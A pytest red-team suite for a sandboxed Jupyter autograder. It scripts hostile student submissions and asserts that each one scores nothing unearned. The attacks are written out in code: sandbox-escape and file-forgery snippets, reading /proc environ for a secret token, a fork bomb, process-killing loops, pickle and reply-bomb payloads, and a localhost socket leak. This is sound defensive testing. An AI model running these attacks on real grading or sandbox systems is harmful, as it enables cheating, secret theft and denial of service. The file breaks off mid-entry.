"""Red team: a class of hostile submissions of the tiny assignment, graded together, each attack asserting the
points a correct grader gives (nothing unearned), the honest students beside them unchanged, and the grader's
files (solutions, SHA256SUMS, reports, grades.csv) untouched, during grading and after it.

Most attacks succeed only by breaking the isolation: their cell sets ``OK`` when the attack worked and then
defines ``f`` to be right only if it did.  A correct grader gives them 4 of the 8 points (``test_f`` and
``test_partial`` lost, the other answers being correct); a broken one gives 8.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import time

import pytest
from nbformat.v4 import new_code_cell

from classroom_tiny import POINTS, make_assignment, needs_bwrap, submission
from vrlib import classroom
from vrlib.classroom.sandbox import PidsGroup

FULL = sum(POINTS.values())
CAUGHT = FULL - POINTS["test_f"] - POINTS["test_partial"]  # the attack failed: f is wrong
TOKEN = "course-token-7f3a9c"  # in the grader's environment while grading: must not reach a student
RIGHT_IF_OK = "\ndef f(x):\n    return np.asarray(x, dtype=float) + (1 if OK else 0)"
PATCH = "np.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"
WRONG_F = "def f(x):\n    return np.asarray(x, dtype=float)"


RAW_REPLY = """import os, stat, fcntl, struct, time
def f(x):
    payload = {payload}
    message = b'VRW1' + struct.pack('<Q', len(payload)) + payload
    for fd in range(3, 64):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
            os.write(fd, struct.pack('<Q', len(message)) + message)
    time.sleep(3)
    return np.asarray(x, dtype=float)"""  # writes its own reply on the grader's channel


def attempt(code: str) -> str:
    """The f cell of an attack: ``code`` (indented into a try) sets OK; f is right only if it did."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return f"OK = False\ntry:\n{body}\nexcept Exception as exc:\n    print('attack failed:', exc)\n" + RIGHT_IF_OK


def _add_cell(source: str, meta: dict | None, before: str):
    """An edit adding a cell with ``meta`` (nbgrader metadata, or None) before the cell ``before``."""

    def edit(nb):
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == before)
        cell = new_code_cell(source)
        if meta is not None:
            cell.metadata["nbgrader"] = meta
        nb.cells.insert(at, cell)

    return edit


def _retag(gid: str, **changes):
    def edit(nb):
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == gid:
                c.metadata["nbgrader"].update(changes)

    return edit


def _drop(gid: str):
    def edit(nb):
        nb.cells[:] = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != gid]

    return edit


def _nested_userns_disabled() -> bool:
    """bwrap 0.8 and later disable user namespaces inside the box (--disable-userns)."""
    from vrlib.classroom.sandbox import _supports, bwrap_path

    return bwrap_path() is not None and _supports(bwrap_path(), "--disable-userns")


def _attacks(paths: dict) -> dict:
    """student -> (answers, edit, expected points, {test: status}), one per attack class."""
    p = {k: str(v) for k, v in paths.items()}
    forged = {"grade": True, "grade_id": "test_zzz", "locked": True, "points": 0, "solution": False,
              "schema_version": 3, "task": False}  # fmt: skip
    return {
        # --- the submission's metadata decides nothing
        "m1_added_read_only_cell": (
            {"f": WRONG_F},
            _add_cell(PATCH, {"locked": True, "solution": False, "grade": False, "schema_version": 3}, "test_f"),
            CAUGHT,
            {"test_f": "failed"},
        ),
        "m2_fake_zero_point_test": ({"f": WRONG_F}, _add_cell(PATCH, forged, "test_f"), CAUGHT, {"test_f": "failed"}),
        "m3_solution_retagged_read_only": (
            {"f": PATCH + WRONG_F},
            _retag("f", solution=False, locked=True),
            CAUGHT,
            {"test_f": "failed"},
        ),
        "m4_cell_claims_a_tests_id": (
            {"f": WRONG_F},
            _add_cell(PATCH, {**forged, "grade_id": "test_ratio", "points": 100}, "f"),
            CAUGHT,
            {"test_f": "failed", "test_ratio": "passed"},
        ),
        "m5_graded_cell_without_grade_id": (
            {},
            _add_cell("x = 1", {"grade": True, "locked": True, "points": 5, "solution": False}, "test_f"),
            FULL,
            {"test_f": "passed"},
        ),
        "m6_deleted_read_only_setup_cell": ({}, _drop("setup"), FULL, {"test_f": "passed"}),
        # --- files: the solutions, the other submissions, the gradebook are not in the box
        "f1_dir_fd_reads_the_solution": (
            {
                "f": attempt(
                    f"import os\nd = os.open({p['source_dir']!r}, os.O_RDONLY)\nfd = os.open('00_tiny.ipynb', os.O_RDONLY, dir_fd=d)\nOK = b'BEGIN SOLUTION' in os.read(fd, 10**6)"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f2_dir_fd_copies_a_classmate": (
            {
                "f": attempt(
                    f"import os\nd = os.open({p['subs']!r}, os.O_RDONLY)\nfd = os.open('honest_a.ipynb', os.O_RDONLY, dir_fd=d)\nOK = len(os.read(fd, 100)) > 0"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f3_forges_a_classmates_report": (
            {
                "f": attempt(
                    f"import os, json\nd = os.open({p['reports']!r}, os.O_RDONLY)\nfd = os.open('honest_b--00_tiny.json', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=d)\nos.write(fd, b'{{}}')\nOK = True"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f4_rewrites_solution_and_sums": (
            {
                "f": attempt(
                    f"import os\nd = os.open({p['source_dir']!r}, os.O_RDONLY)\nfor name in ('00_tiny.ipynb', 'SHA256SUMS'):\n    fd = os.open(name, os.O_WRONLY | os.O_TRUNC, dir_fd=d)\n    os.write(fd, b'')\nOK = True"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f5_writes_sitecustomize_into_the_venv": (
            {
                "f": attempt(
                    "import sys, os, sysconfig\nopen(os.path.join(sysconfig.get_paths()['purelib'], 'zz_redteam.pth'), 'w').write('import os')\nOK = True"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f6_finds_the_graders_copy_under_tmp": (
            {
                "f": attempt(
                    "import glob\nOK = bool(glob.glob('/tmp/vrlib-grade-*/solution/*.ipynb') + glob.glob('/tmp/*/solution/*.ipynb'))"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f7_fills_the_disk": (
            {
                "f": attempt(
                    "with open('big', 'wb') as fh:\n    for _ in range(4096):\n        fh.write(b'0' * 2**20)\nOK = True"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "f8_fills_memory_through_an_unsized_tmpfs": (
            {
                "f": attempt(
                    "written = 0\nfor folder in ('', '/dev', '/opt', '/home'):\n    for i in range(3):\n"
                    "        try:\n            with open(f'{folder}/fill{i}', 'wb') as fh:\n"
                    "                fh.write(b'0' * 50 * 2**20)\n            written += 50\n"
                    "        except OSError:\n            pass\nOK = written >= 300"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        # --- processes: nothing outlives the box, nothing reaches another box
        "p1_detached_program_rewrites_grades_later": (
            {
                "f": attempt(
                    f"import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 4; echo forged > {p['grades']}'], start_new_session=True)\nOK = False"
                )
                + "\n"
            },
            None,
            CAUGHT,
            {},
        ),
        "p2_fork_exec_survivor": (
            {
                "f": attempt(
                    f"import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time\n        time.sleep(4)\n        open({p['grades']!r}, 'w').write('forged')\n    os._exit(0)\nOK = False"
                )
            },
            None,
            CAUGHT,
            {},
        ),
        "p3_kills_every_process_it_can_see": (
            {
                "f": "import os, signal\nfor pid in [int(d) for d in os.listdir('/proc') if d.isdigit()]:\n    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
                + "def f(x):\n    return np.asarray(x, dtype=float) + 1"
            },
            None,
            FULL,
            {"test_f": "passed"},
        ),
        "p4_pidfd_signals_other_pids": (
            {
                "f": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nhits = 0\nfor pid in range(2, 4000):\n    if pid == os.getpid():\n        continue\n    fd = libc.syscall(434, pid, 0)\n    if fd >= 0:\n        hits += libc.syscall(424, fd, 9, None, 0) == 0\n        os.close(fd)\nprint('pidfd hits', hits)\n"
                + "def f(x):\n    return np.asarray(x, dtype=float) + 1"
            },
            None,
            FULL,
            {"test_f": "passed"},
        ),
        "p5_signals_its_parent_and_group": (
            {
                "f": "import os, signal\nfor target in (os.getppid(), 1):\n    try:\n        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass\n"
                + "def f(x):\n    os.killpg(0, signal.SIGKILL)"
            },
            None,
            CAUGHT,
            {"test_f": "process ended", "test_g": "passed"},
        ),
        "p6_fork_bomb": (
            {
                "f": attempt(
                    "import os, time\nkids = 0\nfor _ in range(400):\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n        kids += 1\n    except OSError:\n        break\nprint('forked', kids)\nOK = False"
                )
            },
            None,
            CAUGHT,
            {},
        ),
        "p7_nested_user_namespace": (
            {
                "f": attempt(
                    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nOK = libc.unshare(0x10000000) == 0  # CLONE_NEWUSER: capabilities inside"
                )
            },
            None,
            CAUGHT if _nested_userns_disabled() else FULL,
            {},
        ),
        # --- the network and the grader's environment
        "n1_connects_to_the_host": (
            {
                "f": attempt(
                    f"import socket\ns = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=2)\ns.sendall(b'leak')\nOK = True"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "e1_reads_the_graders_environment": (
            {
                "f": attempt(
                    f"import os, glob\nseen = ' '.join(os.environ.values())\nfor path in glob.glob('/proc/*/environ'):\n    try:\n        seen += open(path, 'rb').read().decode('latin-1')\n    except OSError:\n        pass\nprint(seen)\nOK = {TOKEN[::-1]!r}[::-1] in seen"
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "e2_introspects_the_caller": (
            {
                "f": "import sys\ndef f(x):\n    frames, fr = [], sys._getframe(1)\n    while fr is not None:\n        frames.append(fr)\n        fr = fr.f_back\n    for fr in frames:\n        for v in fr.f_locals.values():\n            if isinstance(v, np.ndarray) and v.shape == np.shape(x) and not np.array_equal(v, x):\n                return v\n    return np.asarray(x, dtype=float)"
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        # --- the withheld reference, under another name
        "w1_reloads_the_withheld_reference": (
            {
                "my_auc": "import importlib.util, vrlib.metrics\nspec = importlib.util.spec_from_file_location('m2', vrlib.metrics.__file__)\nm2 = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m2)\ndef my_auc(y, s):\n    return m2.auc(y, s)"
            },
            None,
            FULL - POINTS["test_auc"],
            {"test_auc": "failed"},
        ),
        # --- replies: typed, bounded, never executed
        "r1_reply_bomb_written_to_the_channel": (
            {"f": RAW_REPLY.format(payload="b'[' * 100000 + b'1' + b']' * 100000")},
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "r5_pickle_written_to_the_channel": (
            {
                "f": RAW_REPLY.format(payload="__import__('pickle').dumps(('ok', [1.0, 2.0, 3.0]))").replace(
                    "b'VRW1' + struct.pack('<Q', len(payload)) + ", ""
                )
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "r1_reply_bomb_nested": (
            {"f": "def f(x):\n    v = []\n    for _ in range(100000):\n        v = [v]\n    return v"},
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "r2_reply_bomb_many_objects": (
            {"f": RAW_REPLY.format(payload="b'[' + b'0,' * 3_000_000 + b'0]'")},
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "r3_lying_objects": (
            {
                "f": "class Liar(float):\n    def __eq__(self, o):\n        return True\n    __hash__ = float.__hash__\nclass LArr(np.ndarray):\n    def __eq__(self, o):\n        return np.ones(np.shape(o), bool)\ndef f(x):\n    return np.zeros(np.shape(x)).view(LArr)"
            },
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        "r4_control_characters_in_messages": (
            {"f": "def f(x):\n    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\r\\u202e all tests passed')"},
            None,
            CAUGHT,
            {"test_f": "failed"},
        ),
        # --- the earlier classes, again in the box
        "o1_exits_in_a_call": (
            {"f": "def f(x):\n    import os\n    os._exit(0)"},
            None,
            CAUGHT,
            {"test_f": "process ended", "test_g": "passed"},
        ),
        "o2_swallows_the_interrupt": (
            {
                "f": "import time\ndef f(x):\n    while True:\n        try:\n            time.sleep(10)\n        except BaseException:\n            pass"
            },
            None,
            CAUGHT,
            {"test_f": "timed out"},
        ),
        "o3_floods_its_output": (
            {"f": "def f(x):\n    print('\\x1b[31m' + 'spam ' * 2_000_000)\n    return np.asarray(x, dtype=float) + 1"},
            None,
            FULL,
            {"test_f": "passed"},
        ),
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("redteam")
    source, released = make_assignment(tmp)
    subs, book = tmp / "subs", tmp / "book"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.1)
    paths = {
        "source_dir": source.parent,
        "subs": subs,
        "reports": book / "reports",
        "grades": book / "grades.csv",
        "port": listener.getsockname()[1],
    }
    attacks = _attacks(paths)
    for name, (answers, edit, _, _) in attacks.items():
        submission(released, subs / f"{name}.ipynb", answers, edit)
    for honest in ("honest_a", "honest_b", "honest_c"):
        submission(released, subs / f"{honest}.ipynb")
    submission(released, subs / "honest_wrong.ipynb", {"f": WRONG_F})
    # one student's folder with a Jupyter copy beside the notebook, and an unreadable notebook
    submission(released, subs / "dupe" / "00_tiny.ipynb")
    submission(released, subs / "dupe" / "00_tiny-Copy1.ipynb", {"f": PATCH + WRONG_F})
    (subs / "broken").mkdir()
    (subs / "broken" / "00_tiny.ipynb").write_text("{ not a notebook")
    sums = (source.parent / "SHA256SUMS").read_bytes()
    solution = source.read_bytes()
    os.environ["COURSE_TOKEN"] = TOKEN
    try:
        start = time.monotonic()
        results = classroom.grade_class(
            subs, book, source_dir=source.parent, jobs=2, timeout=6, time_cap=60, memory_cap="1G", feedback=True
        )
        seconds = time.monotonic() - start
    finally:
        del os.environ["COURSE_TOKEN"]
    grades_right_after = (book / "grades.csv").read_bytes()
    reports_right_after = {p.name: p.read_bytes() for p in (book / "reports").glob("*.json")}
    time.sleep(6)  # the detached programs would write now
    connections = 0
    try:
        while True:
            listener.accept()[0].close()
            connections += 1
    except (socket.timeout, BlockingIOError):
        pass
    listener.close()
    return {
        "reports": {s.student: r for s, r in results},
        "attacks": attacks,
        "tmp": tmp,
        "book": book,
        "seconds": seconds,
        "intact": sums == (source.parent / "SHA256SUMS").read_bytes() and solution == source.read_bytes(),
        "grades_unchanged": grades_right_after == (book / "grades.csv").read_bytes(),
        "reports_unchanged": reports_right_after == {p.name: p.read_bytes() for p in (book / "reports").glob("*.json")},
        "connections": connections,
    }


ATTACKS = list(_attacks({"source_dir": "", "subs": "", "reports": "", "grades": "", "port": 1}))


def test_at_least_25_attack_classes():
    assert len(ATTACKS) >= 25


@needs_bwrap
@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKS)
def test_each_attack_scores_only_what_it_earned(attacked, student):
    _, _, points, statuses = attacked["attacks"][student]
    report = attacked["reports"][student]
    assert report.points == points, report.format()
    got = {t.grade_id: t.status for t in report.tests}
    for test, status in statuses.items():
        assert got[test] == status, report.format()
    assert report.max_points == FULL


@needs_bwrap
@pytest.mark.slow
def test_honest_students_are_unchanged(attacked):
    reports = attacked["reports"]
    for honest in ("honest_a", "honest_b", "honest_c"):
        assert reports[honest].points == FULL and not reports[honest].notes, reports[honest].format()
    assert reports["honest_wrong"].points == CAUGHT, reports["honest_wrong"].format()


@needs_bwrap
@pytest.mark.slow
def test_the_graders_files_are_untouched_during_and_after(attacked):
    assert attacked["intact"], "the solution or SHA256SUMS changed"
    assert attacked["grades_unchanged"], "grades.csv changed after grading ended"
    assert attacked["reports_unchanged"], "a report changed after grading ended"
    book = attacked["book"]
    assert json.loads((book / "reports" / "honest_b--00_tiny.json").read_text())["report"]["points"] == FULL
    assert not (book / "grades.csv").read_text().startswith("forged")
    with open(book / "grades.csv", newline="") as f:
        grades = {r["student_id"]: r for r in csv.DictReader(f)}
    assert float(grades["honest_b"]["score"]) == FULL
    import sysconfig

    assert not os.path.exists(os.path.join(sysconfig.get_paths()["purelib"], "zz_redteam.pth"))
    assert attacked["connections"] == 0, "a submission reached the host's network"


@needs_bwrap
@pytest.mark.slow
def test_nothing_of_the_graders_environment_reaches_a_student(attacked):
    book = attacked["book"]
    for path in list(book.rglob("*.json")) + list(book.rglob("*.ipynb")) + list(book.glob("*.csv")):
        assert TOKEN not in path.read_text(errors="replace"), path
    feedback = (book / "feedback" / "e1_reads_the_graders_environment" / "00_tiny.ipynb").read_text()
    assert "attack failed" in feedback or "PATH" in feedback  # the output is there, the token is not


@needs_bwrap
@pytest.mark.slow
def test_a_copy_is_graded_by_the_stated_rule_and_noted(attacked):
    report = attacked["reports"]["dupe"]
    assert report.points == FULL, report.format()  # 00_tiny.ipynb, not the -Copy1 (the patched one)
    assert any("00_tiny-Copy1.ipynb" in n and "rule" in n for n in report.notes), report.format()


@needs_bwrap
@pytest.mark.slow
def test_an_unreadable_notebook_keeps_the_assignments_max_score(attacked):
    report = attacked["reports"]["broken"]
    assert report.points == 0 and report.max_points == FULL
    assert any(n.startswith("not graded:") for n in report.notes)
    with open(attacked["book"] / "grades.csv", newline="") as f:
        grades = {r["student_id"]: r for r in csv.DictReader(f)}
    assert float(grades["broken"]["max_score"]) == FULL


@needs_bwrap
@pytest.mark.slow
def test_messages_reach_the_teacher_without_control_characters(attacked):
    text = (attacked["book"] / "gradebook.csv").read_text()
    assert "\x1b" not in text and "\u202e" not in text and "\r" not in text.replace("\r\n", "\n")
    row = next(
        line for line in text.splitlines() if line.startswith("r4_control_characters_in_messages,00_tiny,test_f")
    )
    assert "your f raised ValueError" in row, row


@needs_bwrap
@pytest.mark.slow
def test_replies_and_deleted_cells(attacked):
    reports = attacked["reports"]
    for bomb in ("r1_reply_bomb_nested", "r2_reply_bomb_many_objects", "r1_reply_bomb_written_to_the_channel"):
        assert reports[bomb].seconds < 30, reports[bomb].format()
    assert any("restored" in n for n in reports["m6_deleted_read_only_setup_cell"].notes)
    assert any("metadata" in n for n in reports["m2_fake_zero_point_test"].notes)


@needs_bwrap
@pytest.mark.slow
def test_fork_bomb_is_capped_where_the_kernel_allows(attacked):
    output = (attacked["book"] / "feedback" / "p6_fork_bomb" / "00_tiny.ipynb").read_text()
    forked = int(output.split("forked ")[1].split("\\n")[0].split()[0])
    capped = os.geteuid() != 0 or PidsGroup(8).path is not None
    if capped:
        assert forked < 100, forked
    else:  # root without a writable pids cgroup: only the time limit and the kill hold (the teacher's page says so)
        assert forked <= 400


# --------------------------------------------------------------------------- one grading process, in order


@needs_bwrap
@pytest.mark.slow
def test_a_cheat_leaves_nothing_for_the_next_student(tmp_path):
    """Graded one after the other in one process: a patch of numpy.testing by one never helps the next."""
    source, released = make_assignment(tmp_path)
    cheat = submission(
        released,
        tmp_path / "a.ipynb",
        {"f": WRONG_F},
        _add_cell(PATCH, {"locked": True, "solution": False, "grade": False}, "test_f"),
    )
    wrong = submission(released, tmp_path / "b.ipynb", {"f": WRONG_F})
    right = submission(released, tmp_path / "c.ipynb")
    scores = [classroom.grade(p, source=source, timeout=10).points for p in (cheat, wrong, right, wrong)]
    assert scores == [CAUGHT, CAUGHT, FULL, CAUGHT]


@needs_bwrap
@pytest.mark.slow
def test_two_gradings_at_once_do_not_see_each_other(tmp_path):
    """Two boxes at the same time: what one writes to /tmp and its home is not in the other."""
    from concurrent.futures import ThreadPoolExecutor

    source, released = make_assignment(tmp_path)
    writer = submission(
        released,
        tmp_path / "w.ipynb",
        {"f": "import time\nopen('/tmp/shared-secret', 'w').write('x')\nopen('/home/student/mine', 'w').write('x')\n"
         "time.sleep(3)\ndef f(x):\n    return np.asarray(x, dtype=float) + 1"},
    )  # fmt: skip
    reader = submission(
        released,
        tmp_path / "r.ipynb",
        {"f": "import time, os\ntime.sleep(1.5)\nOK = os.path.exists('/tmp/shared-secret') or "
         "os.path.exists('/home/student/mine')" + RIGHT_IF_OK},
    )  # fmt: skip
    with ThreadPoolExecutor(2) as pool:
        w, r = pool.map(lambda p: classroom.grade(p, source=source, timeout=20), (writer, reader))
    assert w.points == FULL and r.points == CAUGHT, (w.format(), r.format())


def test_a_missing_bwrap_stops_with_the_package_name(tmp_path, monkeypatch):
    source, released = make_assignment(tmp_path)
    sub = submission(released, tmp_path / "s.ipynb")
    monkeypatch.setenv("VRLIB_BWRAP", str(tmp_path / "no-such-bwrap"))
    with pytest.raises(classroom.sandbox.SandboxUnavailable, match="'bubblewrap'.*--no-sandbox"):
        classroom.grade(sub, source=source)
    with pytest.raises(classroom.sandbox.SandboxUnavailable, match="bubblewrap"):
        classroom.grade_class(tmp_path / "s.ipynb", tmp_path / "book", source_dir=source.parent)
    false = shutil.which("false")
    monkeypatch.setenv("VRLIB_BWRAP", false)
    classroom.sandbox._works.cache_clear()
    with pytest.raises(classroom.sandbox.SandboxUnavailable, match="cannot make a sandbox"):
        classroom.grade(sub, source=source)
    classroom.sandbox._works.cache_clear()
    # trusted code, said so: graded without a box
    assert classroom.grade(sub, source=source, sandbox=False, timeout=20).points == FULL


def test_the_command_line_names_the_package_and_has_no_sandbox(tmp_path, monkeypatch, capsys):
    from vrlib.cli import main

    source, released = make_assignment(tmp_path)
    sub = submission(released, tmp_path / "s.ipynb")
    monkeypatch.setenv("VRLIB_BWRAP", str(tmp_path / "no-such-bwrap"))
    argv = ["classroom", "grade", str(sub), "--source", str(source), "--timeout", "20"]
    assert main(argv) == 2
    assert "'bubblewrap'" in capsys.readouterr().err
    assert main(argv + ["--no-sandbox"]) == 0
    assert f"total: {FULL:g} / {FULL:g}" in capsys.readouterr().out


@needs_bwrap
def test_a_process_that_stops_reading_costs_its_own_time_only(tmp_path):
    """A cell that answers for itself and then never reads its channel: a large request still ends at its deadline."""
    import numpy as np

    from vrlib.classroom.fence import Fence, StudentTimeout
    from vrlib.classroom.grader import _library

    hijack = (
        "import os, stat, fcntl, struct, time\n"
        'body = b\'{"__tuple__":["ok",null]}\'\n'
        "reply = b'VRW1' + struct.pack('<Q', len(body)) + body\n"
        "for fd in range(3, 64):\n"
        "    try:\n        st = os.fstat(fd)\n    except OSError:\n        continue\n"
        "    if stat.S_ISFIFO(st.st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:\n"
        "        os.write(fd, struct.pack('<Q', len(reply)) + reply)\n"
        "while True:\n    time.sleep(1)\n"
    )
    fence = Fence(tmp_path / "box", memory_cap=2**30, sandbox=True, library=_library(()))
    try:
        fence.start(time.monotonic() + 60)
        fence.run_cell(hijack, "hijack", time.monotonic() + 10)  # its own reply: the grader goes on
        import threading

        outcome = []

        def call():
            try:
                fence.call("f", (np.zeros(2_000_000),), {}, time.monotonic() + 3)  # 16 MB: far over a pipe's buffer
            except BaseException as exc:  # noqa: BLE001
                outcome.append(exc)

        worker = threading.Thread(target=call, daemon=True)
        worker.start()
        worker.join(30)
        stuck = worker.is_alive()
        if stuck:
            fence.stop()  # frees the grader's write
        assert not stuck, "the grader was stuck writing to a process that stopped reading"
        assert len(outcome) == 1 and isinstance(outcome[0], StudentTimeout), outcome
        assert not fence.alive
    finally:
        fence.close()


@needs_bwrap
@pytest.mark.slow
def test_a_grading_process_that_dies_takes_no_classmate_with_it(tmp_path, monkeypatch):
    """A worker of the pool dies while grading one notebook: the others are graded again, each alone."""
    from vrlib.classroom import batch

    source, released = make_assignment(tmp_path)
    for name in ("a_honest", "b_dies", "c_honest", "d_honest"):
        submission(released, tmp_path / "subs" / f"{name}.ipynb")
    real = batch.grade

    def grade(path, **kwargs):  # the pool's processes are forked: they see this
        if "dies" in str(path):
            os._exit(9)
        return real(path, **kwargs)

    monkeypatch.setattr(batch, "grade", grade)
    results = {
        s.student: r
        for s, r in classroom.grade_class(
            tmp_path / "subs", tmp_path / "book", source_dir=source.parent, jobs=2, timeout=20
        )
    }
    assert {k: r.points for k, r in results.items()} == {
        "a_honest": FULL,
        "b_dies": 0,
        "c_honest": FULL,
        "d_honest": FULL,
    }
    assert results["b_dies"].max_points == FULL and "died" in " ".join(results["b_dies"].notes)


# --------------------------------------------------------------------------- the second round of attacks
#
# Graded as one class through grade_class (what `vrlib classroom grade` runs), beside honest students.  Each
# entry: how the submission is made, the points a correct grader gives, and the statuses it must show.

HIDDEN_INPUT = "5.0, -1.0"  # the hidden test's input of f (tests/classroom_tiny.py): must never reach a student
ARGS = "def _show(x):\n    return ', '.join(repr(float(v)) for v in np.ravel(x))\n"
WRONG_IF_HIDDEN = (  # right on every input but the hidden test's (the only one of size 2)
    "\n    if np.size(x) == 2:\n        return np.zeros(np.shape(x))\n    return np.asarray(x, dtype=float) + 1"
)


def _json_edit(change):
    """A submission made by editing the notebook's JSON (for shapes nbformat would not write)."""

    def write(released, path):
        submission(released, path)
        nb = json.loads(path.read_text())
        change(nb)
        path.write_text(json.dumps(nb, separators=(",", ":")))

    return write


def _homoglyph_copy(nb):
    """test_f deleted; a copy of it under a look-alike id (Cyrillic 'е') that does nothing and claims 100 points."""
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_f")
    nb.cells.remove(cell)
    fake = new_code_cell("pass")
    fake.metadata["nbgrader"] = {**cell.metadata["nbgrader"], "grade_id": "t\u0435st_f", "points": 100}
    nb.cells.insert(0, fake)


def _moved_and_duplicated(nb):
    """test_f moved to the top, then a second cell with its id that does nothing."""
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_f")
    nb.cells.remove(cell)
    copy = new_code_cell("pass", metadata=json.loads(json.dumps(cell.metadata)))
    nb.cells[:0] = [cell]
    nb.cells.append(copy)


def _prefilled_outputs(nb):
    from nbformat.v4 import new_output

    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            points = str(c.metadata["nbgrader"].get("points", 0))
            c.execution_count = 7
            c.outputs = [new_output("execute_result", {"text/plain": points}, execution_count=7)]


def _test_as_raw(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "test_f":
            c.cell_type = "raw"
            c.source = "all good"
            c.pop("outputs", None)
            c.pop("execution_count", None)


def _unwithhold(nb):
    nb.metadata["vrlib"] = {"withheld": []}


def _second_round(paths: dict) -> dict:
    """student -> (maker, expected points, {test: status}); maker(released, path) writes the submission."""
    from vrlib.classroom import notebooks

    containers = getattr(notebooks, "MAX_NOTEBOOK_CONTAINERS", 100_000)

    def made(answers=None, edit=None):
        return lambda released, path: submission(released, path, answers, edit)

    def unhashable(nb):
        cell = new_code_cell("unused = 1")
        cell.metadata["nbgrader"] = {"grade_id": ["test_f"], "grade": True, "points": 50}
        nb.cells.append(cell)

    def bomb(nb):
        nb["metadata"]["padding"] = [{}] * (containers * 5)

    def symlink_to(target):
        def write(released, path):
            path.parent.mkdir(parents=True, exist_ok=True)
            os.symlink(target, path)

        return write

    def copy_of(other):
        def write(released, path):
            path.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(other, path)

        return write

    proc_probe = (
        "import os\nfound = []\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit():\n        continue\n"
        "    for where in ('root', 'cwd'):\n        try:\n            found += os.listdir(f'/proc/{pid}/{where}/..')\n"
        "        except OSError:\n            pass\n"
        "    for fd in os.listdir(f'/proc/{pid}/fd') if os.access(f'/proc/{pid}/fd', os.R_OK) else []:\n"
        "        try:\n            found += os.listdir(f'/proc/{pid}/fd/{fd}')\n        except OSError:\n            pass\n"
        f"OK = any(name in found for name in ('SHA256SUMS', '00_tiny.ipynb', 'honest_a.ipynb', {os.path.basename(paths['tmp'])!r}))"
    )
    return {
        # --- notebooks the grader must read without harm: never fatal to the class
        "s1_unhashable_grade_id": (made(edit=unhashable), FULL, {"test_f": "passed"}),
        "s2_cell_that_is_a_string": (_json_edit(lambda nb: nb["cells"].append("a cell")), 0, {}),
        "s3_metadata_that_is_a_list": (_json_edit(lambda nb: nb["cells"][0].update(metadata=[])), 0, {}),
        "s4_json_that_is_not_a_notebook": (lambda r, p: p.write_text("[1, 2, 3]"), 0, {}),
        "s5_object_bomb": (_json_edit(bomb), 0, {}),
        "s6_symlink_to_the_solution": (symlink_to(paths["source"]), 0, {}),
        "s7_symlinked_folder_of_a_classmate": (None, 0, {}),  # made below: a folder linking to honest_c's
        "s8_homoglyph_test_copy": (made({"f": WRONG_F}, _homoglyph_copy), CAUGHT, {"test_f": "deleted"}),
        "s9_test_moved_and_duplicated": (made({"f": WRONG_F}, _moved_and_duplicated), CAUGHT, {"test_f": "failed"}),
        "s10_outputs_prefilled_as_passes": (made({"f": WRONG_F}, _prefilled_outputs), CAUGHT, {"test_f": "failed"}),
        "s11_test_cell_made_raw": (made({"f": WRONG_F}, _test_as_raw), CAUGHT, {"test_f": "failed"}),
        "s12_notebook_metadata_unwithholds": (
            made({"my_auc": "from vrlib.metrics import auc\ndef my_auc(y, s):\n    return auc(y, s)"}, _unwithhold),
            FULL - POINTS["test_auc"],
            {"test_auc": "failed"},
        ),
        "s13_same_bytes_as_a_classmate": (copy_of(paths["honest_a"]), FULL, {"test_f": "passed"}),
        # --- lying values and patched builtins: the tests run in the grader, on plain data
        "l1_patches_builtins_and_assert_in_its_box": (
            made(
                {
                    "f": "import builtins\nbuiltins.AssertionError = type('Pass', (Exception,), {})\n"
